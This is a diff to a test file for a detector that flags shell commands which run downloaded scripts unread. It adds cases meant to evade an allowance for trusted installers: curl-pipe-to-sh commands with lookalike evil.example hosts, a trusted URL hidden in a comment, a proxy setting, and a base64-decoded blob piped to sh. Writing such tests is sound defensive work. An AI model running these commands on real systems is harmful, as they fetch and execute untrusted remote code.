@@ -32,6 +32,12 @@ test("what is executed unread is counted; a maker's own installer is not", () =>
   assert.ok(unread("curl -LsSf https://astral.sh.evil.example/uv/install.sh | sh") > 0);
   assert.ok(unread("curl -LsSf https://astral.sh/uv/install.sh https://evil.example/x.sh | sh") > 0);
   assert.ok(unread("curl https://evil.example/x.sh | sh") > 0);
+  assert.ok(unread("curl -sSf https://sh.rustup.rs.evil.example | sh") > 0);
+  assert.ok(unread("curl $X | sh # https://astral.sh/uv/install.sh") > 0);
+  assert.ok(unread("curl evil.example/x.sh | sh; echo https://astral.sh/uv/install.sh") > 0);
+  assert.ok(unread("curl -x evil.example:8080 https://astral.sh/uv/install.sh | sh") > 0);
+  assert.ok(unread("curl -sK cfg https://astral.sh/uv/install.sh | sh") > 0);
+  assert.ok(unread("curl https://astral.sh/uv/install.sh | sh; base64 -d blob | sh") > 0);
 });
 
 test("what the shell refused to parse did not run", () => {
